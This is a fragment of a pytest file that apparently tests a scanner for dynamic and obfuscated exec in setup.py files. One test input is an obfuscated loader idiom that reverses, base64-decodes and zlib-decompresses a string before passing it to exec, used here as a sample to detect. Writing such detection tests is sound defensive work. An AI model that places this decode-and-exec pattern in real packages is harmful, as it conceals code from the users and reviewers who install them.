    assert (cap.key, cap.phase, cap.line) == ("eval", Phase.INSTALL, 4)


@pytest.mark.parametrize(
    "source",
    [
        "exec(open('pkg/version.py').read())\n",
        "import pathlib\nexec(pathlib.Path('pkg/about.py').read_text())\n",
        "with open('v.py') as f:\n    src = f.read()\nexec(compile(src, 'v.py', 'exec'))\n",
        "exec('x = 1')\n",
    ],
)
def test_executing_a_file_of_the_package_or_a_literal_is_not_dynamic_exec(source: str) -> None:
    assert not found(profile(source, "setup.py"), "dynamic-exec")


def test_a_local_lambda_that_decodes_is_followed() -> None:
    source = (
        "_ = lambda s: __import__('zlib').decompress(__import__('base64').b64decode(s[::-1]))\n"
        "exec((_)(b'=ABC'))\n"
    )
    assert found(profile(source, "setup.py"), "decode-exec")
